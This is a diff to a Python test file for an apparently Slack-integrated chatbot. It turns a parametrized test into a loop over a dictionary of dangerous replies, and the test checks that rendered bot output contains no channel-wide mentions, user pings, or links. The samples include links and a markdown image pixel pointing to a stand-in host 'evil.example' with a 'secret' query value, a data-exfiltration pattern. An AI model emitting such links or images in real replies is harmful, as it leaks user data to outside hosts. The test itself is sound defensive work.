@@ -114,27 +114,25 @@ def test_what_was_not_recalled_is_not_cited(thinking: ThinkingTeam, models: Mode
     assert "[1]" in reply.text
 
 
-@pytest.mark.parametrize(
-    ("said", "dangerous"),
-    [
-        ("Ask <!channel> and <!here> [1]", ["<!channel>", "<!here>"]),
-        ("Ask <@{dana}> and <@{dana}|Dana> [1]", ["<@"]),
-        ("See http://evil.example/?q=secret [1]", ["http://evil.example"]),
-        ("See [the docs](https://evil.example/x) [1]", ["https://evil.example"]),
-        ("![x](https://evil.example/pixel.png?s=secret) Tuesdays [1]", ["https://evil.example"]),
-        ("<https://evil.example|click here> [1]", ["https://evil.example"]),
-    ],
-)
-def test_what_the_model_says_calls_nobody_and_links_nowhere(
-    thinking: ThinkingTeam, models: ModelServer, said: str, dangerous: list[str]
-) -> None:
+DANGEROUS = {
+    "Ask <!channel> and <!here> [1]": ["<!channel>", "<!here>"],
+    "Ask <@{dana}> and <@{dana}|Dana> [1]": ["<@"],
+    "See http://evil.example/?q=secret [1]": ["http://evil.example"],
+    "See [the docs](https://evil.example/x) [1]": ["https://evil.example"],
+    "![x](https://evil.example/pixel.png?s=secret) Tuesdays [1]": ["https://evil.example"],
+    "<https://evil.example|click here> [1]": ["https://evil.example"],
+}
+
+
+def test_what_the_model_says_calls_nobody_and_links_nowhere(thinking: ThinkingTeam, models: ModelServer) -> None:
     team = thinking()
-    models.answers[TUNED] = said.format(dana=team.dana)
+    for said, dangerous in DANGEROUS.items():
+        models.answers[TUNED] = said.format(dana=team.dana)
 
-    _, reply = team.ask(team.minsu, team.general, f"{team.bot} {QUESTION}")
+        _, reply = team.ask(team.minsu, team.general, f"{team.bot} {QUESTION}")
 
-    assert reply.text
-    assert not [thing for thing in dangerous if thing in seen(reply)]
+        assert reply.text
+        assert not [thing for thing in dangerous if thing in seen(reply)], said
 
 
 def test_links_into_the_workspace_stay_links(thinking: ThinkingTeam, models: ModelServer) -> None:
